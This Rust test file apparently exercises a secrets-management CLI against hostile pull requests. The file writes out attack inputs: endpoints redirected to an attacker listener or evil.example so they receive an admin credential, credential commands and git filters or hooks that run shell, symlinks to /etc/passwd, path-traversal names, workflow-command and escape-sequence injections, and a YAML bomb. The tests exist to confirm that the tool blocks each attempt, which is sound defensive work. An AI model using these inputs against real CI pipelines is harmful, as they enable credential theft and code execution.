//! What a hostile pull request may try. Each finds nothing to take: a listening attacker hears no byte, the canary credential stands in no output,
//! and the review names the attempt.
use std::io::Read;
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use serde_json::Value;

use super::{BASE, CAROL, branch, replace, text, trusted};
use crate::machine::{self, Machine};
use crate::sandbox::Ran;
use crate::team::Team;

/// The job of a pull request that has a credential for plans.
const JOB: &[(&str, &str)] = &[("CI", "true"), ("GITHUB_ACTIONS", "true"), ("GITHUB_EVENT_NAME", "pull_request")];

/// A server of the attacker that counts the bytes that it is sent.
struct Attacker {
    port: u16,
    heard: Arc<AtomicUsize>,
}

impl Attacker {
    fn listens() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
        let port = listener.local_addr().expect("bound").port();
        let heard = Arc::new(AtomicUsize::new(0));
        let count = heard.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                // Even a connection without a byte counts.
                count.fetch_add(1, Ordering::SeqCst);
                let _ = stream.set_read_timeout(Some(Duration::from_secs(1)));
                let mut piece = [0; 4096];
                while let Ok(length @ 1..) = stream.read(&mut piece) {
                    count.fetch_add(length, Ordering::SeqCst);
                }
            }
        });
        Self { port, heard }
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    #[track_caller]
    fn heard_nothing(&self) {
        assert_eq!(self.heard.load(Ordering::SeqCst), 0, "the attacker was called");
    }
}

/// Runs the plan as CI does, and looks for the canary in what it says.
#[track_caller]
fn reviewed(clone: &Machine<'_>, arguments: &[&str], exit: i32) -> Ran {
    let mut command = clone.command(arguments);
    command.envs(JOB.iter().copied());
    let ran = machine::ran(arguments, command.output().expect("runs")).exits(exit);
    let credential: Value = serde_json::from_str(&clone.team.emulator.admin_credential_json()).expect("JSON");
    let canary = text(&credential["secret"]);
    assert!(!canary.is_empty() && !ran.stdout.contains(canary) && !ran.stderr.contains(canary), "the credential is in the output");
    ran
}

fn commit(clone: &Machine<'_>) {
    clone.git(&["add", "-A", "-f", ".", ":!.keywright"]);
    clone.git(&["commit", "-qm", "innocent"]);
}

fn plan(clone: &Machine<'_>, exit: i32) -> Value {
    commit(clone);
    let ran = reviewed(clone, &["plan", "--base", "origin/main", "-o", "json"], exit);
    serde_json::from_str(&ran.stdout).unwrap_or_else(|_| panic!("JSON expected: {}{}", ran.stdout, ran.stderr))
}

#[test]
fn another_endpoint_for_the_admin_credential() {
    let (team, attacker) = (Team::new(), Attacker::listens());
    let a = branch(&team, "a");
    replace(&a, "keywright.yaml", &team.emulator.url(), &attacker.url());
    let plan = plan(&a, 0);
    assert_eq!(trusted(&plan), [("host", "accounts.pay.endpoint", "critical", false)]);
    assert_eq!(plan["accounts"]["pay"]["listing"], "complete", "the trusted endpoint was asked");
    attacker.heard_nothing();
}

#[test]
fn a_workspace_that_is_taken_away_or_moved() {
    let team = Team::with(crate::emulator::Config::default(), "prod/");
    let a = branch(&team, "a");
    // Upwards of the manifests there is another workspace now, and nothing of theirs would be looked at.
    a.git(&["mv", "keywright.yaml", "../keywright.yaml"]);
    replace(&a, "keys/pay.yaml", "[pcx:devices:read]", "[\"pcx:*\"]");
    commit(&a);
    let ran = reviewed(&a, BASE, 1);
    assert!(ran.stderr.contains("error[trust/base]") && ran.stderr.contains("prod` in `origin/main`, and that of"), "{}", ran.stderr);
    a.git(&["rm", "-qf", "../keywright.yaml"]);
    let ran = reviewed(&a, BASE, 1);
    assert!(ran.stderr.contains("and none in the working tree"), "{}", ran.stderr);
}

#[test]
fn files_that_look_like_a_repository() {
    let attacker = Attacker::listens();
    let team = Team::with(crate::emulator::Config::default(), "prod/");
    let a = branch(&team, "a");
    replace(&a, "keywright.yaml", "    params:", &format!("    endpoint: http://127.0.0.1:{}\n    params:", attacker.port));
    commit(&a);
    // A repository of the attacker, as plain files: git takes such a directory for a bare one.
    let top = a.top();
    let own = tempfile::tempdir().expect("a directory");
    let git = |arguments: &[&str]| {
        let done = std::process::Command::new("git").args(arguments).current_dir(own.path()).status().expect("git runs");
        assert!(done.success(), "{arguments:?}");
    };
    let from = top.display().to_string();
    git(&["clone", "-q", "--bare", &from, "bare"]);
    git(&["-C", "bare", "update-ref", "refs/remotes/origin/main", "HEAD"]);
    for worktree in [".", ".."] {
        git(&["-C", "bare", "config", "core.bare", "false"]);
        git(&["-C", "bare", "config", "core.worktree", worktree]);
        for entry in ["HEAD", "config", "objects", "refs", "packed-refs"] {
            let (from, to) = (own.path().join("bare").join(entry), a.top().join("prod").join(entry));
            let done = std::process::Command::new("cp").arg("-rfT").args([&from, &to]).status().expect("cp runs");
            assert!(done.success() || entry == "packed-refs");
        }
        let ran = reviewed(&a, BASE, 1);
        assert!(ran.stderr.contains("error[trust/base]"), "{worktree}: {}", ran.stderr);
        assert_eq!(attacker.heard.load(Ordering::SeqCst), 0, "{worktree}");
    }
}

#[cfg(unix)]
#[test]
fn a_link_or_a_submodule_in_the_place_of_a_workspace() {
    let team = Team::with(crate::emulator::Config::default(), "prod/");
    let a = branch(&team, "a");
    let top = a.top();
    a.git(&["mv", "../prod", "../staging"]);
    std::os::unix::fs::symlink("staging", top.join("prod")).expect("a link");
    let named = [&["-C", "prod"], BASE].concat();
    for (arguments, directory) in [(&named[..], top.to_owned()), (BASE, top.join("prod"))] {
        let mut command = a.command(arguments);
        command.envs(JOB.iter().copied()).current_dir(&directory).env("PWD", &directory);
        let ran = machine::ran(arguments, command.output().expect("runs")).exits(1);
        assert!(ran.stderr.contains("error[trust/base]") && ran.stderr.contains("is a link"), "{}", ran.stderr);
    }
    // Other commits in the same place, which the change chooses.
    a.git(&["reset", "-q", "--hard", "origin/main"]);
    a.git(&["clean", "-qfdx"]);
    let inner = team.clone("inner");
    a.git(&["rm", "-rqf", "."]);
    let _ = std::fs::remove_dir(top.join("prod"));
    let from = inner.top().display().to_string();
    a.git(&["-c", "protocol.file.allow=always", "submodule", "--quiet", "add", &from, "prod"]);
    let directory = top.join("prod/prod");
    let mut command = a.command(BASE);
    command.envs(JOB.iter().copied()).current_dir(&directory);
    let ran = machine::ran(BASE, command.output().expect("runs")).exits(1);
    assert!(ran.stderr.contains("error[trust/base]") && ran.stderr.contains("is a submodule"), "{}", ran.stderr);
}

#[test]
fn what_a_new_account_or_place_runs_and_borrows() {
    let team = Team::new();
    let a = branch(&team, "a");
    let more = "  more:\n    provider: payconex\n    environment: certification\n    params: { account_id: \"220614966801\" }\n    credential: { command: [sh, -c, id] }\n";
    let leak = "deliveries:\n  leak:\n    to: nango\n    endpoint: https://evil.example\n    credential: { env: PAYCONEX_ADMIN_KEY }\n    params: { provider_config_key: a, connection_id: b }\n";
    replace(&a, "keywright.yaml", "recipients:\n", &format!("{more}{leak}recipients:\n"));
    let plan = plan(&a, 0);
    assert_eq!(
        trusted(&plan),
        [("account-added", "accounts.more", "critical", false), ("delivery-added", "deliveries.leak", "critical", false)]
    );
    let whys: Vec<&str> = plan["trusted"].as_array().expect("a list").iter().map(|row| text(&row["why"])).collect();
    assert!(whys[0].contains("a command would be run") && whys[1].contains("credential of `pay`"), "{whys:?}");
}

#[test]
fn the_defaults_let_somebody_into_every_key() {
    let team = Team::new();
    let b = team.clone("b");
    b.write(
        "keywright.yaml",
        &b.read("keywright.yaml").replace("recipients:\n  ops", &format!("recipients:\n  auditors: [{CAROL}]\n  ops")),
    );
    b.git(&["commit", "-qam", "auditors"]);
    b.git(&["push", "-q"]);
    let a = branch(&team, "a");
    replace(&a, "keywright.yaml", "  recipients: [ops]", "  recipients: [ops, auditors]");
    let plan = plan(&a, 0);
    assert_eq!(
        trusted(&plan),
        [("recipient-added", "defaults.recipients", "high", false), ("defaults", "defaults.recipients", "medium", true)]
    );
    let who = &plan["trusted"][0];
    assert_eq!((text(&who["after"]), who["concerns"].as_array().map(Vec::len)), (CAROL, Some(2)), "{who:#}");
}

#[test]
fn a_new_account_that_borrows_the_credential() {
    let (team, attacker) = (Team::new(), Attacker::listens());
    let a = branch(&team, "a");
    let account = format!(
        "accounts:\n  evil:\n    provider: payconex\n    environment: certification\n    endpoint: {}\n    params: {{ account_id: \"220614966801\", auth: basic }}\n    credential: {{ env: PAYCONEX_ADMIN_KEY }}\n",
        attacker.url()
    );
    replace(&a, "keywright.yaml", "accounts:\n", &account);
    a.write("keys/evil.yaml", "account: evil\nkeys:\n  x: { scopes: [pcx:devices:read] }\n");
    let plan = plan(&a, 0);
    assert_eq!(trusted(&plan), [("account-added", "accounts.evil", "critical", false)], "the admin credential would go to its endpoint");
    assert!(text(&plan["trusted"][0]["why"]).contains("credential of `pay`"), "{plan:#}");
    assert_eq!((text(&plan["accounts"]["evil"]["listing"]), text(&plan["changes"][0]["action"])), ("assumed", "create"));
    attacker.heard_nothing();
}

#[test]
fn a_profile_that_calls_its_scopes_harmless() {
    let (team, attacker) = (Team::new(), Attacker::listens());
    let a = branch(&team, "a");
    let own = include_str!("../../src/profiles/payconex.yaml").replace("name: payconex", "name: harmless");
    let listed =
        "pcx:payments:refund: { access: write, tags: [money], says: refunds payments, why: can pay money back out of the account }";
    assert!(own.contains(listed), "its line in the catalogue");
    a.write("providers/harmless.yaml", &own.replace(listed, "pcx:payments:refund: { access: list, says: nothing of note }"));
    let account = format!(
        "accounts:\n  own:\n    provider: harmless\n    environment: certification\n    endpoint: {}\n    params: {{ account_id: \"220614966801\", auth: basic }}\n    credential: {{ env: HARMLESS_ADMIN_KEY }}\n",
        attacker.url()
    );
    replace(&a, "keywright.yaml", "accounts:\n", &account);
    a.write("keys/own.yaml", "account: own\nkeys:\n  x: { scopes: [pcx:payments:refund] }\n");
    let plan = plan(&a, 0);
    let gained = &plan["changes"][0]["access"]["gained"][0];
    assert_eq!((text(&gained["scope"]), text(&gained["risk"])), ("pcx:payments:refund", "critical"), "{plan:#}");
    assert!(text(&gained["why"]).contains("comes with this change"), "{gained}");
    attacker.heard_nothing();
}

#[test]
fn a_profile_that_sends_the_credential_elsewhere() {
    let (team, attacker) = (Team::new(), Attacker::listens());
    let a = branch(&team, "a");
    let own = include_str!("../../src/profiles/payconex.yaml").replace("https://api-cert.payconex.net", &attacker.url());
    a.write("providers/payconex.yaml", &own);
    commit(&a);
    // Whether or not the profile would be accepted, nothing is sent by it.
    let mut command = a.command(BASE);
    command.envs(JOB.iter().copied());
    let ran = machine::ran(BASE, command.output().expect("runs"));
    let said = format!("{}{}", ran.stdout, ran.stderr);
    assert!(said.contains("providers/payconex.yaml"), "{said}");
    attacker.heard_nothing();
}

#[test]
fn another_command_for_the_credential() {
    let team = Team::new();
    let a = branch(&team, "a");
    let mark = a.path("pwned");
    a.write("steal.sh", &format!("#!/bin/sh\ntouch {}\n", mark.display()));
    replace(&a, "keywright.yaml", "{ env: PAYCONEX_ADMIN_KEY }", "{ command: [sh, steal.sh] }");
    let plan = plan(&a, 0);
    assert_eq!(
        trusted(&plan),
        [
            ("credential", "accounts.pay.credential.command", "critical", false),
            ("credential", "accounts.pay.credential.env", "high", false)
        ]
    );
    assert!(!mark.exists(), "the command of the change was run");
}

#[test]
fn the_script_that_the_trusted_file_runs() {
    let team = Team::new();
    let b = team.clone("b");
    b.write("credential.sh", "#!/bin/sh\nprintenv PAYCONEX_ADMIN_KEY\n");
    replace(&b, "keywright.yaml", "{ env: PAYCONEX_ADMIN_KEY }", "{ command: [sh, credential.sh] }");
    b.git(&["add", "-A"]);
    b.git(&["commit", "-qm", "command"]);
    b.git(&["push", "-q"]);
    let a = branch(&team, "a");
    let mark = a.path("pwned");
    a.write("credential.sh", &format!("#!/bin/sh\ntouch {}\n", mark.display()));
    commit(&a);
    let ran = reviewed(&a, BASE, 4);
    assert!(ran.stdout.contains("could bring along"), "{}", ran.stdout);
    assert!(ran.stdout.contains("warning[trust/credential]"), "{}", ran.stdout);
    assert!(ran.stdout.contains("`credential.sh`, which the credential of account `pay` comes from, is changed"), "{}", ran.stdout);
    assert!(!mark.exists(), "the script of the change was run");
    // Nor where nothing says that this is a job for a pull request. What keys would gain is shown all the same.
    replace(&a, "keys/pay.yaml", "keys:\n", "keys:\n  more: { label: More, scopes: [pcx:api_key:read] }\n");
    let ran = a.run(BASE).exits(4);
    assert!(!mark.exists(), "the script of the change was run");
    assert!(ran.stdout.contains("pay/more") && ran.stdout.contains("CRITICAL"), "{}", ran.stdout);
}

#[test]
fn a_tag_that_is_called_like_the_branch() {
    let team = Team::new();
    let a = branch(&team, "a");
    a.git(&["checkout", "-q", "-b", "evil"]);
    replace(&a, "keywright.yaml", "ops: [", &format!("ops: [{CAROL}, "));
    commit(&a);
    a.git(&["tag", "main"]);
    a.git(&["tag", "base"]);
    a.git(&["checkout", "-q", "a"]);
    let commit = |base: &str| {
        let ran = a.run(&["plan", "--base", base, "-o", "json"]).exits(0);
        let plan: Value = serde_json::from_str(&ran.stdout).expect("JSON");
        text(&plan["base"]["commit"]).to_owned()
    };
    assert_eq!(commit("main"), commit("origin/main"));
    assert_ne!(commit("refs/tags/main"), commit("origin/main"));
    assert!(a.run(&["plan", "--base", "base"]).exits(1).stderr.contains("is no branch here, but a tag"));
}

#[test]
fn a_recipient_of_its_own_choice() {
    let team = Team::new();
    let a = branch(&team, "a");
    let config = a.read("keywright.yaml");
    let ops = config.split("ops: [").nth(1).and_then(|rest| rest.split(']').next()).expect("a recipient").to_owned();
    // Exchanged, and the key rotated in the same change by other scopes.
    replace(&a, "keywright.yaml", &ops, CAROL);
    replace(&a, "keys/pay.yaml", "[pcx:devices:read]", "[pcx:devices:*]");
    let plan = plan(&a, 0);
    assert_eq!(
        trusted(&plan),
        [("recipient-added", "recipients.ops", "high", false), ("recipient-removed", "recipients.ops", "medium", false)]
    );
    assert!(!plan["changes"].to_string().contains(CAROL), "no change of this plan is sealed to them");
}

#[test]
fn a_record_or_a_secret_of_its_own_making() {
    let team = Team::new();
    let a = branch(&team, "a");
    replace(&a, "ledger/pay/billing.yaml", "state: active", "state: deleted");
    a.write("secrets/pay/refunds.age", "other");
    a.write("ledger/pay/ghost.yaml", &a.read("ledger/pay/refunds.yaml").replace("pay/refunds", "pay/ghost"));
    std::fs::remove_file(a.path("secrets/pay/billing.age")).expect("removed");
    let plan = plan(&a, 1);
    let edits = plan["diagnostics"].as_array().expect("a list").iter().filter(|found| found["code"] == "trust/hand-edit");
    let edited: Vec<&str> = edits.map(|found| text(&found["file"])).collect();
    assert_eq!(plan["accounts"]["pay"]["listing"], "assumed", "what is refused asks no provider");
    assert_eq!(edited, ["ledger/pay/billing.yaml", "ledger/pay/ghost.yaml", "secrets/pay/billing.age", "secrets/pay/refunds.age"]);
    assert_eq!(plan["changes"].as_array().map(Vec::len), Some(0), "the records of the base count");
}

#[test]
fn a_journal_that_was_committed() {
    let team = Team::new();
    let a = branch(&team, "a");
    let ghost = "{\"step\":\"lost\"}\nnonsense\n";
    a.write(".keywright/journal.jsonl", ghost);
    let unread = reviewed(&a, &["plan", "--base", "origin/main"], 0);
    assert!(unread.stdout.contains("no changes"), "what is not committed is nobody's change, and not read: {}", unread.stdout);
    a.git(&["add", "-f", ".keywright/journal.jsonl"]);
    a.git(&["commit", "-qm", "state"]);
    let told = reviewed(&a, &["plan", "--base", "origin/main"], 1);
    assert!(told.stdout.contains("`.keywright/journal.jsonl` is committed"), "{}", told.stdout);
    // And once it is merged, nothing goes on with it.
    for command in [&["plan"][..], &["apply", "--yes"], &["recover"], &["list"]] {
        let ran = a.run(command).exits(1);
        assert!(ran.stderr.contains("trust/hand-edit"), "{command:?}: {}", ran.stderr);
    }
}

#[test]
fn links_submodules_and_ways_out_of_the_workspace() {
    let team = Team::new();
    let a = branch(&team, "a");
    for (from, to) in [("/etc/passwd", "keys/link.yaml"), ("../../..", "keys/up"), ("/etc", "providers")] {
        std::os::unix::fs::symlink(from, a.path(to)).expect("linked");
        commit(&a);
        let ran = reviewed(&a, BASE, 1);
        assert!(ran.stderr.contains("symbolic link") && !ran.stderr.contains("root:"), "{}", ran.stderr);
        a.git(&["reset", "-q", "--hard", "HEAD~1"]);
    }
    for name in ["\"../../x\"", "\"/x\"", "\"a/b\"", "\"a\\u0000\""] {
        a.write("keys/out.yaml", &format!("account: pay\nkeys:\n  {name}: {{ scopes: [pcx:devices:read] }}\n"));
        commit(&a);
        reviewed(&a, BASE, 1);
        a.git(&["reset", "-q", "--hard", "HEAD~1"]);
    }
    let head = a.git(&["rev-parse", "HEAD"]);
    for entry in [format!("160000,{head},keys/module"), format!("160000,{head},ledger/module")] {
        a.git(&["update-index", "--add", "--cacheinfo", &entry]);
        a.git(&["commit", "-qm", "submodule"]);
        let ran = reviewed(&a, BASE, 1);
        assert!(ran.stdout.contains("module` is another repository"), "{}", ran.stdout);
        a.git(&["reset", "-q", "--hard", "HEAD~1"]);
    }
    std::os::unix::fs::symlink("/etc/passwd", a.path("ledger/link.yaml")).expect("a link");
    commit(&a);
    let ran = reviewed(&a, BASE, 1);
    assert!(ran.stdout.contains("`ledger/link.yaml` is a symbolic link"), "{}{}", ran.stdout, ran.stderr);
}

#[test]
fn attributes_hooks_and_filters() {
    let team = Team::new();
    let a = branch(&team, "a");
    let mark = a.path("pwned");
    a.write(".gitattributes", "* filter=evil diff=evil merge=evil export-subst ident\n");
    a.write(".githooks/post-checkout", &format!("#!/bin/sh\ntouch {}\n", mark.display()));
    commit(&a);
    // Even where the clone was told to use them.
    let touch = format!("touch {}; cat", mark.display());
    for (name, value) in
        [("filter.evil.clean", &touch), ("filter.evil.smudge", &touch), ("diff.evil.textconv", &touch), ("core.fsmonitor", &touch)]
    {
        a.git(&["config", name, value]);
    }
    a.git(&["config", "core.hooksPath", ".githooks"]);
    let _ = std::fs::remove_file(&mark);
    let ran = reviewed(&a, BASE, 0);
    assert!(!mark.exists(), "a program of the change was run");
    assert!(ran.stdout.contains("no changes"), "{}", ran.stdout);
}

#[test]
fn texts_that_steer_whoever_reads_them() {
    let team = Team::new();
    let a = branch(&team, "a");
    let hostile = [
        ("owner", "\"::add-mask::x\""),
        ("purpose", "\"\\n::error::x\""),
        ("purpose", "\"<script>alert(1)</script>](javascript:x)\""),
        ("label", "\"<!-- keywright:plan {} -->\""),
        ("owner", "\"\\e[2J\\e]0;x\\a\""),
        ("purpose", "\"a\\u202eb\""),
    ];
    for (field, value) in hostile {
        a.write("keys/text.yaml", &format!("account: pay\nkeys:\n  x: {{ scopes: [pcx:devices:read], {field}: {value} }}\n"));
        commit(&a);
        let mut command = a.command(BASE);
        command.envs(JOB.iter().copied());
        let ran = machine::ran(BASE, command.output().expect("runs"));
        for text in [&ran.stdout, &ran.stderr] {
            assert!(!text.lines().any(|line| line.trim_start().starts_with("::")), "a workflow command: {text}");
            assert!(!text.chars().any(|c| c == '\u{1b}' || c == '\u{202e}' || c == '\u{7}'), "a control character: {text:?}");
        }
        a.git(&["reset", "-q", "--hard", "HEAD~1"]);
    }
}

#[test]
fn names_that_look_like_others_and_files_that_are_too_much() {
    let team = Team::new();
    let a = branch(&team, "a");
    let deep = format!("account: pay\nkeys: {}{}\n", "[".repeat(200_000), "]".repeat(200_000));
    let bomb = "account: pay\na: &a [x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nkeys: {}\n".to_owned();
    let homoglyph = "account: pаy\nkeys:\n  x: { scopes: [pcx:devices:read] }\n".to_owned();
    let huge = format!("account: pay\nkeys:\n{}", "  # padding padding padding padding padding padding\n".repeat(400_000));
    for manifest in [deep, bomb, homoglyph, huge] {
        a.write("keys/odd.yaml", &manifest);
        commit(&a);
        let ran = reviewed(&a, BASE, 1);
        assert!(ran.stderr.contains("keys/odd.yaml") && ran.stderr.len() < 100_000, "{}", ran.stderr.len());
        a.git(&["reset", "-q", "--hard", "HEAD~1"]);
    }
}

#[test]
fn without_a_base_nothing_is_used_in_a_pull_request() {
    let (team, attacker) = (Team::new(), Attacker::listens());
    let a = branch(&team, "a");
    replace(&a, "keywright.yaml", &team.emulator.url(), &attacker.url());
    for arguments in [
        &["plan"][..],
        &["apply", "--yes", "--push"],
        &["recover", "--yes"],
        &["import", "pay", "--all", "--yes"],
        &["doctor"],
        &["verify"],
    ] {
        let before = team.emulator.requests().len();
        let mut command = a.command(arguments);
        command.envs(JOB.iter().copied());
        let ran = machine::ran(arguments, command.output().expect("runs"));
        assert_ne!(ran.exit, 0, "{}: {}{}", ran.line, ran.stdout, ran.stderr);
        assert_eq!(team.emulator.requests().len(), before, "{}", ran.line);
    }
    attacker.heard_nothing();
}
